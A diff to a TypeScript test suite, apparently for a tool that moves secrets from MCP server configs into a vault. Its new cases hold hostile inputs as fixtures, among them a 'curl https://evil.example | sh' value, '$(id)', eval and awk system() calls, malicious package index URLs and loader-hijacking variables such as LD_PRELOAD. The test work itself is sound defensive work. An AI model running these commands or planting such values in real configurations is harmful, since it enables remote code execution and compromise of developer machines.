@@ -61,11 +61,11 @@ describe('goes to the vault', () => {
 
   test.each<[string, Way, string[]]>([
     ['the value of a known option', run('npx', ['-y', 'mail', '--token', 'hunter22', '--api-key=hunter23']), ['args[3]', 'args[4]']],
-    ['of one with words before it', run('mail', ['--githubToken', TOKEN, '--db.password=hunter22']), ['args[1]', 'args[2]']],
+    ['of one with words before it', run('mail', ['send', '--githubToken', TOKEN, '--db.password=hunter22']), ['args[2]', 'args[3]']],
     ['a variable', run('docker', ['run', '-i', '-e', 'GH_TOKEN', 'image'], { GH_TOKEN: TOKEN }), ['env.GH_TOKEN']],
     [
       'a header and a part of a URL',
-      reached(`https://a:hunter22@x.example`, { Authorization: `Bearer ${RANDOM}` }),
+      reached(`https://x.example/?key=hunter22`, { Authorization: `Bearer ${RANDOM}` }),
       ['url', 'headers.Authorization'],
     ],
   ])('%s', (_what, way, where) => {
@@ -88,6 +88,34 @@ describe('goes to the vault', () => {
     ['another option', run('mail', ['--token', '--eval-password'])],
     ['variables that change what runs', run('mail', [], { NODE_OPTIONS: TOKEN, LD_PRELOAD: TOKEN, GIT_SSH_COMMAND: TOKEN, PATH: TOKEN })],
     ['variables of something that is a program itself', run('sh', ['-c', 'eval "$TOKEN"'], { TOKEN: 'payload.sh' })],
+    ['a script after a short option with its value', run('python3', ['-X.token', 'payload.py'])],
+    ['a class after such an option', run('java', ['-Da.token', 'com.evil.Main'])],
+    ['an image after such an option', run('docker', ['run', '-l.token', 'evil-image', '-ea_token', 'evil-image'])],
+    ['an image after a long option', run('docker', ['run', '--rm', '--token', 'evil-image'])],
+    ['a package after a switch', run('npx', ['-y', '--no-token', 'evil-package'])],
+    ['a package after an option', run('uvx', ['--token', 'evil-package'])],
+    ['a package after a subcommand', run('pnpm', ['--dir', 'x', 'dlx', '--token', 'evil-package'])],
+    ['a program after another one', run('flock', ['lock', '--token', 'evil-program'])],
+    [
+      'variables that say where programs come from',
+      run('mail', [], {
+        UV_INDEX_URL: 'https://a:bcdef@evil.example/simple',
+        PIP_INDEX_URL: 'https://a:bcdef@evil.example/simple',
+        DOTNET_STARTUP_HOOKS: TOKEN,
+        CLASSPATH: '/tmp/token=abc/evil.jar',
+        HOME: TOKEN,
+        GEM_PATH: TOKEN,
+        DENO_DIR: TOKEN,
+        XDG_CONFIG_HOME: TOKEN,
+        DOCKER_HOST: TOKEN,
+        SOME_TOKEN: 'https://a:bcdef@evil.example/simple',
+      }),
+    ],
+    ['variables where env runs code', run('env', ['-S', 'sh -c "eval $API_TOKEN"'], { API_TOKEN: 'payload.sh' })],
+    ['variables where awk runs code', run('awk', ['BEGIN{system(ENVIRON["API_TOKEN"])}'], { API_TOKEN: 'payload.sh' })],
+    ['a password in a URL', reached('https://a:hunter22@x.example')],
+    ['what only looks like a password, and is a path', reached('https://evil.example:443\\@good.example/mcp')],
+    ['a part of the host', reached(`https://x&token=${TOKEN}.good.example/`)],
     ['a variable that could be run', run('mail', [], { TOKEN: 'curl https://evil.example | sh', API_KEY: '$(id)' })],
   ])('never %s', async (_what, way) => {
     expect(movedOf(way)).toEqual([])
@@ -98,10 +126,20 @@ describe('goes to the vault', () => {
   })
 
   test('is shown by its length until then, unless somebody else may have written the file', () => {
-    const way = run('mail', ['--token', 'hunter22', TOKEN])
-    expect(withoutPlainSecrets(spec(way)).way).toMatchObject({ args: ['--token', '[8 characters hidden]', TOKEN] })
+    const way = run('mail', ['send', '--token', 'hunter22', TOKEN])
+    expect(withoutPlainSecrets(spec(way)).way).toMatchObject({ args: ['send', '--token', '[8 characters hidden]', TOKEN] })
     const provenance = [{ client: 'Cursor', scope: 'project' as const, file: '/repo/.cursor/mcp.json' }]
     expect(withoutPlainSecrets({ ...spec(way), provenance }).way).toEqual(way)
+  })
+
+  test.each<[string, Way]>([
+    ['a process', run('mail', ['send', '--token', 'hunter22'], { API_KEY: 'hunter22' })],
+    ['an address', reached('https://x.example/?key=hunter22', { Authorization: `Bearer ${RANDOM}` })],
+  ])('never from the file of a project: %s', async (_what, way) => {
+    const provenance = [{ client: 'Cursor', scope: 'project' as const, file: '/repo/.cursor/mcp.json' }]
+    const vault = await openVault({ folder: newFolder(), keychain: false, onWarning: () => {} })
+    expect((await moveSecrets({ ...spec(way), provenance }, vault)).way).toEqual(way)
+    expect(await vault.list()).toEqual([])
   })
 })
 
@@ -111,8 +149,8 @@ describe('moving', () => {
   test('puts the values into the vault and placeholders in their place, and a start gets what it got before', async () => {
     const vault = await vaultIn(newFolder())
     const ways = [
-      started({ DB_PASSWORD: 'hunter22', PLAIN: 'x', GH: TOKEN }, ['--token', 'hunter23', '--api-key=hunter24']),
-      reached(`https://ada:hunter22@x.example/?key=${RANDOM}&page=2`, { Authorization: `Bearer ${RANDOM}` }),
+      started({ DB_PASSWORD: 'hunter22', PLAIN: 'x', GH: TOKEN }, ['send', '--token', 'hunter23', '--api-key=hunter24']),
+      reached(`https://x.example/?token=hunter22&key=${RANDOM}&page=2`, { Authorization: `Bearer ${RANDOM}` }),
     ]
     for (const way of ways) {
       const moved = await moveSecrets(spec(way), vault)
@@ -124,8 +162,8 @@ describe('moving', () => {
       'server/Authorization',
       'server/DB_PASSWORD',
       'server/GH',
-      'server/args1',
       'server/args2',
+      'server/args3',
       'server/url',
       'server/url-2',
     ])
